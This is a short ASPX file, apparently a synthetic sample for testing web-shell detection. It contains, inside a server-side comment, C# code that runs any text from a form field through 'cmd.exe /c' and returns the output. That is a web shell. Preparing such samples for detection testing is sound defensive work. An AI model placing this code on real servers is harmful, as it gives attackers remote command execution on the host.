<%-- EXTRIAGE SYNTHETIC SAMPLE - inert, for detection testing only. Server code below is inside a server-side comment.
<%@ Page Language="C#"%><%@ Import Namespace="System.Diagnostics"%>
<script runat="server">
void Run(object s, EventArgs e){ var p = new ProcessStartInfo("cmd.exe", "/c " + txtCmd.Text); p.RedirectStandardOutput = true; p.UseShellExecute = false; Response.Write(Process.Start(p).StandardOutput.ReadToEnd()); }
</script>
--%>
